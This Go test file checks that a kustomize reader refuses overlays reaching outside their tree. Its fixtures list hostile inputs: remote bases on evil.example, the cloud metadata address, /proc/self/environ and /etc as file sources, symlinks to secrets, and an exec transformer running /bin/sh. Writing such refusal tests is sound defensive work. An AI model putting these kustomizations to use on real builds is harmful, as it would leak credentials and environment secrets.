package confine

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// overlay writes a base and an overlay that uses it (../base), the layout every kustomize
// repository has, and returns the overlay's directory.
func overlay(t *testing.T, root, extra string) string {
	t.Helper()
	base(t, root)
	return prod(t, root, extra)
}

func base(t *testing.T, root string) {
	t.Helper()
	write(t, filepath.Join(root, "base", "kustomization.yaml"), "resources: [cm.yaml]\n")
	write(t, filepath.Join(root, "base", "cm.yaml"), "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: demo}\ndata: {a: b}\n")
}

func prod(t *testing.T, root, extra string) string {
	t.Helper()
	write(t, filepath.Join(root, "overlays", "prod", "kustomization.yaml"), "resources: [../../base]\nnamePrefix: prod-\n"+extra)
	return filepath.Join(root, "overlays", "prod")
}

// remoteRefs are the remote forms kustomize fetches by itself.
var remoteRefs = []string{
	"https://evil.example/base.yaml",
	"http://169.254.169.254/latest/meta-data",
	"https://github.com/evil/repo//base?ref=main",
	"git::https://github.com/evil/repo//base",
	"git@github.com:evil/repo.git//base",
	"ssh://git@github.com/evil/repo.git//base",
	"git://github.com/evil/repo//base",
	"file:///etc",
}

// kustomizeEscapes generates every kustomization that reaches past its tree: each remote
// form in each field that loads something, each field that runs something, paths out of the
// root, and links. Each returns the extra kustomization text and the name the refusal gives.
func kustomizeEscapes(t *testing.T, w world) map[string]func() (string, string) {
	out := map[string]func() (string, string){}
	fileFields := map[string]func(ref string) string{
		"resources":                 func(r string) string { return fmt.Sprintf("resources: [../../base, %q]\n", r) },
		"components":                func(r string) string { return fmt.Sprintf("components: [%q]\n", r) },
		"bases":                     func(r string) string { return fmt.Sprintf("bases: [%q]\n", r) },
		"crds":                      func(r string) string { return fmt.Sprintf("crds: [%q]\n", r) },
		"configurations":            func(r string) string { return fmt.Sprintf("configurations: [%q]\n", r) },
		"patchesStrategicMerge":     func(r string) string { return fmt.Sprintf("patchesStrategicMerge: [%q]\n", r) },
		"patches.path":              func(r string) string { return fmt.Sprintf("patches: [{path: %q}]\n", r) },
		"patchesJson6902.path":      func(r string) string { return fmt.Sprintf("patchesJson6902: [{path: %q}]\n", r) },
		"replacements.path":         func(r string) string { return fmt.Sprintf("replacements: [{path: %q}]\n", r) },
		"openapi.path":              func(r string) string { return fmt.Sprintf("openapi: {path: %q}\n", r) },
		"configMapGenerator.files":  func(r string) string { return fmt.Sprintf("configMapGenerator: [{name: x, files: [%q]}]\n", r) },
		"configMapGenerator.keyed":  func(r string) string { return fmt.Sprintf("configMapGenerator: [{name: x, files: [%q]}]\n", "k="+r) },
		"configMapGenerator.envs":   func(r string) string { return fmt.Sprintf("configMapGenerator: [{name: x, envs: [%q]}]\n", r) },
		"configMapGenerator.env":    func(r string) string { return fmt.Sprintf("configMapGenerator: [{name: x, env: %q}]\n", r) },
		"secretGenerator.files":     func(r string) string { return fmt.Sprintf("secretGenerator: [{name: x, files: [%q]}]\n", r) },
		"secretGenerator.envs":      func(r string) string { return fmt.Sprintf("secretGenerator: [{name: x, envs: [%q]}]\n", r) },
		"secretGenerator.env":       func(r string) string { return fmt.Sprintf("secretGenerator: [{name: x, env: %q}]\n", r) },
		"configMapGenerator.files2": func(r string) string { return fmt.Sprintf("configMapGenerator: [{name: x, files: [ok.txt, %q]}]\n", r) },
	}
	prod := filepath.Join(w.root, "overlays", "prod")
	for field, mk := range fileFields {
		for i, r := range remoteRefs {
			out[fmt.Sprintf("%s/remote-%d", field, i)] = func() (string, string) { return mk(r), strings.Split(field, ".")[0] }
		}
		out[field+"/dot-dot-file"] = func() (string, string) { return mk(mustRel(prod, w.secret)), "outside the input root" }
		out[field+"/absolute"] = func() (string, string) { return mk(w.secret), "absolute" }
		out[field+"/proc"] = func() (string, string) { return mk("/proc/self/environ"), "absolute" }
		out[field+"/link-out"] = func() (string, string) {
			link(t, w.secret, filepath.Join(prod, "linked.env"))
			return mk("linked.env"), filepath.Join("overlays", "prod", "linked.env")
		}
		out[field+"/link-dir-out"] = func() (string, string) {
			link(t, w.outside, filepath.Join(prod, "outdir"))
			return mk("outdir/passphrase"), filepath.Join("overlays", "prod", "outdir")
		}
	}
	for _, f := range []string{"helmCharts", "helmChartInflationGenerator", "helmGlobals", "generators", "transformers", "validators"} {
		out["runs/"+f] = func() (string, string) {
			body := map[string]string{
				"helmCharts":                  "helmCharts: [{name: x, repo: 'https://evil.example', valuesFile: /proc/self/environ}]\n",
				"helmChartInflationGenerator": "helmChartInflationGenerator: [{chartName: x}]\n",
				"helmGlobals":                 "helmGlobals: {chartHome: /etc}\n",
				"generators":                  "generators: [gen.yaml]\n",
				"transformers":                "transformers: [\"apiVersion: x\\nkind: Exec\\nmetadata: {name: y, annotations: {config.kubernetes.io/function: 'exec: {path: /bin/sh}'}}\"]\n",
				"validators":                  "validators: [val.yaml]\n",
			}[f]
			return body, f
		}
	}
	out["unknown field"] = func() (string, string) { return "helmChartz: [x]\n", "helmChartz" }
	out["base is a link"] = func() (string, string) {
		require.NoError(t, os.RemoveAll(filepath.Join(w.root, "base")))
		write(t, filepath.Join(w.outside, "base", "kustomization.yaml"), "resources: [cm.yaml]\n")
		write(t, filepath.Join(w.outside, "base", "cm.yaml"), "kind: ConfigMap\n")
		link(t, filepath.Join(w.outside, "base"), filepath.Join(w.root, "base"))
		return "", "base"
	}
	out["kustomization file is a link"] = func() (string, string) {
		k := filepath.Join(w.root, "base", "kustomization.yaml")
		require.NoError(t, os.Remove(k))
		write(t, filepath.Join(w.outside, "k.yaml"), "resources: [cm.yaml]\n")
		link(t, filepath.Join(w.outside, "k.yaml"), k)
		return "", filepath.Join("base", "kustomization.yaml")
	}
	out["git shorthand that does not exist locally"] = func() (string, string) {
		return "resources: [github.com/evil/repo//base]\n", "does not exist here"
	}
	return out
}

// TestKustomizeEscapesRefused builds each generated kustomization in its own tree and asserts
// the untrusted read refuses it, naming the field or path, before kustomize runs.
func TestKustomizeEscapesRefused(t *testing.T) {
	probe := newWorld(t)
	names := kustomizeEscapes(t, probe)
	refused := 0
	for name := range names {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t)
			base(t, w.root)
			write(t, filepath.Join(w.root, "overlays", "prod", "ok.txt"), "ok")
			extra, want := kustomizeEscapes(t, w)[name]()
			dir := prod(t, w.root, extra)
			_, err := untrusted(t, w).ReadKustomization(dir, nil)
			requireRefused(t, err, want)
			refused++
		})
	}
	t.Logf("kustomize escapes: %d generated cases, %d refused", len(names), refused)
}

// TestKustomizeBuildsFromMemory: a benign overlay (base one level up, a generator reading a
// file of its own tree) builds, from the in-memory copy of exactly the checked files.
func TestKustomizeBuildsFromMemory(t *testing.T) {
	w := newWorld(t)
	write(t, filepath.Join(w.root, "overlays", "prod", "app.env"), "MODE=prod\n")
	dir := overlay(t, w.root, "configMapGenerator: [{name: app, envs: [app.env]}]\ngeneratorOptions: {disableNameSuffixHash: true}\n")
	k, err := untrusted(t, w).ReadKustomization(dir, nil)
	require.NoError(t, err)
	require.Equal(t, []string{
		filepath.Join("base", "cm.yaml"), filepath.Join("base", "kustomization.yaml"),
		filepath.Join("overlays", "prod", "app.env"), filepath.Join("overlays", "prod", "kustomization.yaml"),
	}, k.Files)
	out, err := k.Build()
	require.NoError(t, err)
	require.Contains(t, string(out), "name: prod-demo")
	require.Contains(t, string(out), "MODE: prod")

	// The in-memory file system holds nothing else: a file written on disk after the read
	// is not seen by the build.
	write(t, filepath.Join(w.root, "base", "late.yaml"), "kind: ConfigMap\n")
	exists := k.FS.Exists(filepath.Join(w.root, "base", "late.yaml"))
	require.False(t, exists)
}

// TestKustomizeTrustedRemoteFollowsPolicy: the trusted mode lets a remote base through only
// when the policy allows its host.
func TestKustomizeTrustedRemoteFollowsPolicy(t *testing.T) {
	w := newWorld(t)
	dir := overlay(t, w.root, "resources: [../../base, 'https://mirror.example/x.yaml', 'git@github.com:org/repo//base']\n")
	c, err := New(Trusted, w.root, "")
	require.NoError(t, err)
	var asked []string
	_, err = c.ReadKustomization(dir, func(u string) error {
		asked = append(asked, u)
		if strings.Contains(u, "github.com") {
			return &Error{Path: "host github.com", Rule: "not an allowed source host"}
		}
		return nil
	})
	requireRefused(t, err, "github.com")
	require.Equal(t, []string{"https://mirror.example/x.yaml", "https://github.com/"}, asked)
	_, err = c.ReadKustomization(dir, nil)
	requireRefused(t, err, "no source policy allows remote bases")
}
